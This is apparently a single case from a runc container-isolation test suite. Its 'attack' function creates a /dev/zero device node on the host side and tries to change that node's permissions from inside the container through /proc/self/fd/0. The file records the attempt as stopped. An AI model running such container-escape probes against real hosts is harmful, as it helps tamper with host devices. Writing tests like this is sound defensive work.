"""The same with another device of the memory, which runc gives away too."""

import os

from bypass import inert

SOURCE = "idea: runc's exception is for /dev/null alone"
WAY = "create"
STOPPED = inert("the stream is a node of its own for the same device, which nobody else has")


def attack(t):
    device = t.host + "/zero"
    os.mknod(device, 0o20666, os.makedev(1, 5))
    os.chmod(device, 0o666)
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.around = ["sh", "-c", 'exec "$@" <"$0"', device]
    t.run("chmod 0 /proc/self/fd/0; head -c 4 | wc -c")
    now = os.stat(device)
    return "owned by %d, mode %o" % (now.st_uid, now.st_mode & 0o777) if now.st_uid or now.st_mode & 0o777 != 0o666 else ""
